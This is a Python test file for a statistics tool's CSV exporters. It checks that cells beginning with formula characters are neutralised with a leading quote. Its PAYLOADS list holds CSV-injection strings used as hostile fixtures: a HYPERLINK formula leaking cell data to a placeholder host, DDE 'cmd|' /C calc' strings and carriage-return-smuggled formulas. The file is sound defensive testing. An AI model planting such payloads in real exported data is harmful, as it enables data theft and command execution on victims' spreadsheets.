"""No CSV the project writes carries a formula: `mfgstats export --format csv|sdmx-csv` and `mfgstats sql --csv` on a
warehouse whose text columns (subjects, region names, file paths, a mart's column name) hold formula payloads.
Every text cell that begins with = + - @, a tab or a carriage return is prefixed with a single quote (OWASP's
rule); numbers, negative ones included, stay numbers."""

from __future__ import annotations

import csv
import io

import duckdb
import pytest

from mfgstats.cli import main
from mfgstats.serve.csvsafe import FORMULA_START, is_numeric_type, neutralise
from mfgstats.warehouse.publish import publish

PAYLOADS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "-6.7",  # text that looks like a number is text: quoted
    "规上工业企业\r=1+2",  # a CR inside a cell: a reader that ends lines at CR must not see a row start with =
]
HOSTILE_COLUMN = '=HYPERLINK("http://example.invalid")'
QUOTED_COLUMN = '"' + HOSTILE_COLUMN.replace('"', '""') + '"'


@pytest.fixture
def hostile_warehouse(tmp_path, monkeypatch, make_warehouse):
    monkeypatch.setenv("MFGSTATS_WAREHOUSE_DIR", str(tmp_path / "wh"))
    monkeypatch.setenv("MFGSTATS_RAW_DIR", str(tmp_path / "raw"))
    monkeypatch.setenv("DAGSTER_HOME", str(tmp_path / "dagster_home"))
    build = make_warehouse(tmp_path / "wh" / "build" / "mfgstats.duckdb")
    with duckdb.connect(str(build)) as con:
        ids = [r[0] for r in con.execute("SELECT observation_id FROM main.fct_observation ORDER BY 1").fetchall()]
        for oid, payload in zip(ids, PAYLOADS, strict=False):
            con.execute(
                "UPDATE main.fct_observation SET subject = ?, region_name = ?, file_path = ? WHERE observation_id = ?",
                [payload, payload, payload, oid],
            )
        con.execute(
            f"""CREATE TABLE main.mart_hostile AS
                SELECT p AS label, -6.7 AS decline, -3 AS rank_change, 1.5::DOUBLE AS {QUOTED_COLUMN}
                FROM (SELECT unnest(?::VARCHAR[]) AS p)""",
            [PAYLOADS],
        )
    return publish(build, tmp_path / "wh" / "mfgstats.duckdb")


def _formula_cells(text: str) -> list[str]:
    """Cells that a spreadsheet would run: start with a formula character and are not a plain number."""
    found = []
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            if cell.startswith(FORMULA_START):
                try:
                    float(cell)
                except ValueError:
                    found.append(cell)
    return found


def _read(path) -> str:
    with path.open(encoding="utf-8", newline="") as fh:  # as written: a CR stays a CR
        return fh.read()


def test_csv_export_has_no_formula_cell(hostile_warehouse, tmp_path):
    out = tmp_path / "csv"
    assert main(["export", "--format", "csv", "--out", str(out)]) == 0
    files = sorted(out.glob("*.csv"))
    assert len(files) == 7
    assert {f.name: _formula_cells(_read(f)) for f in files} == {f.name: [] for f in files}
    # a program that ends lines at CR (old Mac Excel) sees no formula either
    assert {f.name: _formula_cells(_read(f).replace("\r", "\n")) for f in files} == {f.name: [] for f in files}
    hostile = list(csv.DictReader(io.StringIO(_read(out / "mart_hostile.csv"), newline="")))
    assert [r["label"] for r in hostile] == [neutralise(p) for p in PAYLOADS]
    assert sum(r["label"].startswith("'") for r in hostile) == len(PAYLOADS) - 1
    assert {(r["decline"], r["rank_change"]) for r in hostile} == {("-6.7", "-3")}  # numbers stay numbers
    assert list(hostile[0])[-1] == "'" + HOSTILE_COLUMN  # a header is text too
    observations = _read(out / "fct_observation.csv")
    assert "'=cmd|' /C calc'!A0" in observations and "-4.5" in observations


def test_sdmx_csv_export_has_no_formula_cell(hostile_warehouse, tmp_path):
    out = tmp_path / "sdmx"
    assert main(["export", "--format", "sdmx-csv", "--out", str(out)]) == 0
    data, codelists = _read(out / "DF_MFG_OBS.csv"), _read(out / "DF_MFG_OBS.codelists.csv")
    for text in (data, codelists, data.replace("\r", "\n"), codelists.replace("\r", "\n")):
        assert _formula_cells(text) == []
    rows = list(csv.DictReader(io.StringIO(data, newline="")))
    assert {r["SOURCE_FILE"] for r in rows} <= {neutralise(p) for p in PAYLOADS}
    assert any(r["SOURCE_FILE"].startswith("'") for r in rows)
    assert "-4.5" in {r["OBS_VALUE"] for r in rows}  # a decline is a number, not a formula
    names = {r["NAME_ZH"] for r in csv.DictReader(io.StringIO(codelists, newline=""))}
    assert names & {neutralise(p) for p in PAYLOADS if p[0] in FORMULA_START}  # subjects label codes


def test_sql_csv_has_no_formula_cell(hostile_warehouse, capsys):
    assert main(["sql", "--csv", "SELECT label, decline FROM mart_hostile UNION ALL SELECT subject, value_signed "
                 "FROM fct_observation"]) == 0  # fmt: skip
    out = capsys.readouterr().out
    assert _formula_cells(out) == []
    rows = list(csv.reader(io.StringIO(out, newline="")))[1:]
    assert ["'-2+3+cmd|' /C calc'!A0", "-6.7"] in rows and ["'-6.7", "-6.7"] in rows
    assert ["'\t=1+2", "-6.7"] in rows and ["'\r=1+2", "-6.7"] in rows
    assert ["规上工业企业\r=1+2", "-6.7"] in rows
    assert _formula_cells(out.replace("\r", "\n")) == []  # read by a program that ends lines at CR


def test_the_rule():
    assert [neutralise(v) for v in ["=1", "+1", "-1", "@A1", "\tx", "\rx", "a=1", " =1", "", "规上工业企业"]] == [
        "'=1",
        "'+1",
        "'-1",
        "'@A1",
        "'\tx",
        "'\rx",
        "a=1",
        " =1",
        "",
        "规上工业企业",
    ]
    numeric = ["INTEGER", "BIGINT", "UBIGINT", "HUGEINT", "DOUBLE", "FLOAT", "DECIMAL(18,3)", "DECIMAL(5, 1)"]
    assert all(is_numeric_type(t) for t in numeric)
    assert not any(is_numeric_type(t) for t in ["VARCHAR", "DATE", "INTERVAL", "INTEGER[]", "JSON", "BOOLEAN"])
